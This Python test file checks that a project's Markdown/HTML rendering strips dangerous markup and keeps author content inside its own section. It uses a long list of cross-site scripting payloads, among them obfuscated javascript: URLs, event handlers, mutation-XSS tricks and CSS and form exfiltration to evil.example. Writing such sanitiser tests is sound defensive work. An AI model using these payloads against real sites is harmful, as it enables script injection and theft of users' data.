"""Nothing that an author writes can act, reach out of its own document, or break ours."""

import pytest
from bleach._vendor.html5lib import parseFragment  # type: ignore[import-not-found]  # the stubs leave it out
from hypothesis import given, settings
from hypothesis import strategies as st

from scripthut_outputs.rendering import fill, for_our_pages, formulas
from scripthut_outputs.rendering.sanitising import TAGS

from .reading import html_of, read


def on_our_page(rendered: str) -> str:
    """What a browser is given, without the one attribute that only we may write."""
    filled = fill(rendered, run_id="r", task_id="t")
    return for_our_pages(filled, run_id="r", task_id="t").replace(' loading="lazy">', ">")


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src=x OnErRoR = 'alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<img """><script>alert(1)</script>">',
    "<img src='x'\x00onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi//xlink:href='data:x,<script>alert(4)</script>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style><!--</style><script>alert(1)//--></script>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x><applet code=x></applet>",
    "<form action=https://evil.example><input name=token><button>Go</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<details ontoggle=alert(1) open>x</details>",
    "<video src=x onerror=alert(1)></video><audio src=x autoplay></audio>",
    "<p style='position:fixed;inset:0;background:url(https://evil.example)'>x</p>",
    "<table background=https://evil.example><tr><td style=x onclick=alert(1)>x</table>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' \x01 javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&Tab;script:alert(1)'>x</a>",
    "<a href='java&NewLine;script&colon;alert(1)'>x</a>",
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>x</a>",
    "<a href='javascript&#58alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='javascript\u200b:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data&#58;text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<a href='blob:https://x.example/1'>x</a><a href='file:///etc/passwd'>y</a><a href='ftp://x.example'>z</a>",
    "<a href='scripthut-file:../../../etc/passwd'>x</a>",
    "<img src='SCRIPTHUT-FILE:x.png'>",
    "<a href='https:evil.example'>x</a><a href='http:/evil.example'>y</a>",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1) )",
    "[x](&#106;avascript:alert(1))",
    "![x](javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    '![x](x.png"onerror="alert(1))',
    "![x](x.png 'y\" onerror=\"alert(1)')",
    '![" onerror="alert(1)](x.png)',
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```js onload=alert(1)\nx\n```",
    "<!-- a comment --><!doctype html><?php x ?><![CDATA[ y ]]>",
    "<!-- never closed <b>",
    "<!--><script>alert(1)</script>-->",
    "</div></section></main></body></html><h1>out</h1>",
    "</p></td></table><li>stray<dd>stray<dt>stray<li>",
    "<table><tr><td></section><td></table></table>",
    "<tr><td>a row of no table<caption>x<tbody>",
    "<b><i><u><a href=x><table><tr><td><a href=y></b>z",
    "<html lang=x><head><body class=y id=z>t",
    "<p id=location name=cookie class=x data-x=1 aria-label=y role=button tabindex=1 is=x slot=y contenteditable>x</p>",
    "<a href=x target=_blank ping=https://evil.example download rel=opener>x</a>",
    "<img srcset='https://evil.example/x 2x' src=x.png lowsrc=y dynsrc=z usemap=#m>",
    "<td colspan=99999999 rowspan=99999999>x</td><table><td colspan=99999999>x</table>",
    "<ol start=99999999999999999999><li value=-1e9>x</ol>",
    "<img width=99999999 height='100vh;x' src=x.png>",
    "\x02wzxhzdk:0\x03 \x02klzzwxh:0001\x03 <script>x</script> \x02amp\x03",
    "&#0; &#xD800; &#x110000; &#99999999999; <p title='&#xD800;&#0;&#1;'>x</p>",
    "<abbr title='&#xD800;&#0;&#1;\ud7ff'>y</abbr><img src=x.png alt='&#xDFFF;'>",
    "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x00\x08\x7f",
    "https://evil.example/\"onmouseover=alert(1) www.evil.example/'><script>alert(1)</script> javascript://x.example/%0a",
    '<https://evil.example/"onclick=alert(1)> <data:text/html,x> x@evil.example"onclick=alert(1)',
    "[x][y]\n\n[y]: data:text/html,<script>alert(1)</script>",
    '[x][y]\n\n[y]: <java\tscript:alert(1)> "a" onclick="alert(1)"',
    "x[^y]\n\n[^y]: <script>alert(1)</script> [z](javascript:alert(1)) <img src=x onerror=alert(1)>",
    'x[^" onclick="alert(1)]\n\n[^" onclick="alert(1)]: y',
    "x[^<script>]\n\n[^<script>]: y\n\n[^&#xFDD3;]: z\n\n[^&#xFDD3;]",
    "> [!NOTE]\n> <script>alert(1)</script>\n> [x](javascript:alert(1))",
    '> [!NOTE" onclick="alert(1)]\n> x',
    "- [x] <img src=x onerror=alert(1)>\n- [ ] <input type=checkbox checked onclick=alert(1)>",
    "<span class='task-mark' role=img aria-label=done>x</span><div class='alert alert-note' id=x>y</div>",
    "<p class=scripthut-notice>forged</p><a class=permalink href=#x aria-label='Link to this heading'>y</a>",
    "<details open ontoggle=alert(1)>\n<summary onclick=alert(1)>x</summary>\n\n<script>alert(1)</script>\n",
    "<details>\n\n<details>\n\n**never closed",
    "</details></details></section>\n\n# after",
    "# <img src=x onerror=alert(1)> [x](javascript:alert(1)) <svg onload=alert(1)>",
    "# x\n\n<h1 id=x onclick=alert(1)><a name=y>x</a></h1><h1><h2><h3>",
    "<a href=x>\n\n# a heading in a link\n\n</a>",
    "$\\text{<script>alert(1)</script>}$ $\\text{<img src=x onerror=alert(1)>}$",
    "$\\href{javascript:alert(1)}{x} \\class{a}{b} \\style{position:fixed}{c} \\cssId{d}{e}$",
    "$$\n\\unicode{x3c}script\\unicode{x3e} &lt;b&gt; &#60;b&#62; \\unicode{xfdd3}\n$$",
    "$`\\color{url(https://evil.example)}{x} \\colorbox{red}{y}`$ $\\hspace{-999em}x \\raise{99em}{y}$",
    '$"><script>alert(1)</script>$ $\\frac{<script>$ $a\\verb|<img src=x onerror=alert(1)>|$',
    "```math\n</math><script>alert(1)</script>\n```\n\n```math\n\\def\\a{\\a\\a}\\a\n```",
    "<math><mi>a</mi></math> <math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml>",
    '```mermaid\n</pre><script>alert(1)</script>\nclick A "javascript:alert(1)"\n```',
    '```html\n<script>alert(1)</script>\n<!-- </code></pre> -->\n```\n\n```"onclick=alert(1)\nx\n```',
    '``` {.python onclick="alert(1)" #live}\nx\n```\n\n```<script>\nx\n```',
    ':rocket: :<script>: :javascript: :+1"onclick=alert(1):',
    "~~<script>alert(1)</script>~~ <del onclick=alert(1)>x</del>",
    "\ufdd0alert \ufdd10\ufdd2 $x$ \ufdd3 <p class='\ufdd0alert alert-note' id='\ufdd0fn.1'>x</p> &#xFDD1;0&#xFDD2;",
    "<p class='&#xFDD0;alert alert-note' title='&#xFDD1;0&#xFDD2;' id='&#xFDD0;fn.1'>x</p> $y$ [z](a '&#xFDD1;0;')",
    "![$x$ `y`](a.png '$z$') <abbr title='$w$'>v</abbr> <img alt='$u$' src=b.png>",
    "<table><tr><td>\n\n$x$\n\n```py\nprint(1)\n```\n\n</td></table>",
    "<table>\n\n```py\n1\n```\n\n<tr>\n\n> [!NOTE]\n> x\n\n</table><select>\n\n$x$\n\n",
    "<script>\n\n```py\nprint(1)\n```\n\n$x$ </script> <textarea>\n\n$y$\n\n</textarea>",
    "<style>@import 'https://evil.example/x.css'; input[value^=a]{background:url(https://evil.example/a)}</style>",
    "<" * 300 + "a" + ">" * 300,
    "<a" * 200,
    "<p title='" * 100,
    "&" * 500 + "amp;",
]


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize(
    "around", ["{}", "before\n\n{}\n\nafter", "| a |\n|--|\n| {} |", "- {}", "> {}", "x {} y", "<div>{}"]
)
def test_only_harmless_html_survives(attack: str, around: str) -> None:
    rendered = html_of(around.format(attack))

    read(rendered)
    shown = read(on_our_page(rendered))
    assert all(
        str(values["src"]).startswith("/runs/r/tasks/t/outputs/file/")
        for tag, values in shown.elements
        if tag == "img" and "src" in values
    )


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_document_reaches_out_of_its_place(attack: str) -> None:
    page = f"<main><section>{html_of(attack)}</section><p>after</p></main>"

    tree = parseFragment(page, namespaceHTMLElements=False)

    main = tree.find("main")
    assert [child.tag for child in main] == ["section", "p"]
    assert main[1].text == "after"
    assert len(tree) == 1


@given(st.text(max_size=300))
@settings(max_examples=300, deadline=None)
def test_any_text_gives_balanced_harmless_html(text: str) -> None:
    read(html_of(text.encode("utf-8", "surrogatepass")))


@given(st.binary(max_size=300))
@settings(max_examples=200, deadline=None)
def test_any_bytes_give_balanced_harmless_html(document: bytes) -> None:
    read(html_of(document))


TAG_PIECES = (
    "< > </ /> <!-- --> <![CDATA[ ]]> a p i td tr th table ul ol li dl dt dd img b u pre code h1 div span details"
)
UNSAFE_PIECES = (
    "svg math script style blockquote href src on error= javascript: data: scripthut-file: https:// // ../ %2e%2e/ %00"
)
GITHUB_PIECES = (
    "$ $$ $x$ \\frac \\text{ } [^1] [^1]: [x] [ ] > >[!NOTE] # ## ```py ```math ```mermaid :rocket: :x: ~~ "
    "https://a.example www. a@b.example <details> </details> <summary> 1. id= class= \ufdd0 \ufdd1 \ufdd2 \ufdd3 0"
)
TEXT_PIECES = (
    "= \" ' ` & ; : # ! [ ] ( ) | - * _ ~~~ ``` -- &lt; &#60; &#x6a; x.png \x00 \x1b \ufeff \u202e é 🎈 \x02 \x03"
)
PIECES = st.sampled_from(
    [
        *f"{TAG_PIECES} {UNSAFE_PIECES} {GITHUB_PIECES} {TEXT_PIECES}".split(" "),
        " ",
        "\n",
        "\n\n",
        "\t",
        "    ",
        "\n- ",
        "\n> ",
    ]
)


@given(st.lists(PIECES, max_size=60).map("".join))
@settings(max_examples=600, deadline=None)
def test_any_mixture_of_markup_gives_balanced_harmless_html(text: str) -> None:
    rendered = html_of(text)

    read(rendered)
    read(on_our_page(rendered))


@given(st.lists(PIECES, max_size=40).map("".join))
@settings(max_examples=300, deadline=None)
def test_a_browser_sees_what_we_let_through_and_no_more(text: str) -> None:
    page = f"<main><section>{on_our_page(html_of(text))}</section><p>after</p></main>"

    tree = parseFragment(page, namespaceHTMLElements=False)

    main = tree.find("main")
    assert [child.tag for child in main] == ["section", "p"]
    for element in main[0].iter():
        name = element.tag.removeprefix("{http://www.w3.org/1998/Math/MathML}")
        assert name in TAGS | formulas.ELEMENTS | {"section"}
        assert not {key for key in element.attrib if key.startswith("on") or key in {"style", "name"}}
